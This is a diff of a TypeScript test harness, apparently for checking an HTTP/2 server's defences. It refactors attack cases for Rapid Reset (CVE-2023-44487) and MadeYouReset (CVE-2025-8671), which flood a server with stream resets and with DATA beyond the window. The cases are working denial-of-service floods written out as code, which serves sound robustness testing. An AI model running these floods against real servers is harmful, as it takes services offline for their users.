@@ -12,11 +12,11 @@ import {
   requestBlock,
   rst,
   Type,
+  times,
   uint32,
   windowUpdate,
 } from '../../rig/http2-bytes.ts';
-import { opening } from '../../rig/raw-http2-client.ts';
-import { type Attack, flood, judgeEnding, load, pour } from '../attack.ts';
+import { type Attack, each, flood, judgeEnding, load, openingWithWindow, pour } from '../attack.ts';
 
 const GET = requestBlock('GET', '/');
 const GET_WAIT = requestBlock('GET', '/wait');
@@ -25,15 +25,6 @@ const HEAD_ONLY = Flag.endHeaders;
 
 /** Streams that may be begun before a flood of resets is ended: some thousand, where the default burst is 200. */
 const MAX_STREAMS = 2_500;
-
-/** A batch that begins and throws away `size` streams. */
-function each(size: number, stream: (id: number, n: number) => readonly Uint8Array[]): (n: number) => Buffer {
-  return (n) => {
-    const frames: Uint8Array[] = [];
-    for (let i = 0; i < size; i++) frames.push(...stream(2 * (n * size + i) + 1, n * size + i));
-    return Buffer.concat(frames);
-  };
-}
 
 function resets(id: string, why: string, stream: (id: number, n: number) => readonly Uint8Array[]): Attack {
   return flood({ id: `rapid-reset/${id}`, why: `CVE-2023-44487: ${why}`, batch: each(100, stream), count: 200, maxStreams: MAX_STREAMS });
@@ -143,7 +134,7 @@ const RAPID_RESET: readonly Attack[] = [
     id: 'rapid-reset/after-head',
     why: 'CVE-2023-44487: each stream is reset when the head of its answer has come and before its body, for which there is no window',
     async run({ connect }) {
-      const peer = await connect(opening([4, 0]));
+      const peer = await connect(openingWithWindow(0));
       let next = 1;
       const begin = (): Buffer => {
         const id = next;
@@ -162,7 +153,7 @@ const RAPID_RESET: readonly Attack[] = [
     id: 'rapid-reset/again-and-again',
     why: 'RST_STREAM for a stream that is closed already',
     before: Buffer.concat([headers(1, GET_WAIT), rst(1, Code.cancel)]),
-    batch: () => Buffer.concat(new Array<Uint8Array>(200).fill(rst(1, Code.cancel))),
+    batch: () => times(200, rst(1, Code.cancel)),
     count: 500,
     codes: [Code.calm, Code.streamClosed],
   }),
@@ -251,7 +242,7 @@ const MADE_YOU_RESET: readonly Attack[] = [
     id: 'made-you-reset/beyond-window',
     why: 'CVE-2025-8671: DATA beyond the window of each stream',
     async run({ connect }) {
-      const peer = await connect(opening());
+      const peer = await connect();
       const frames: Uint8Array[] = [];
       const sent = await pour(peer, {
         count: 250,
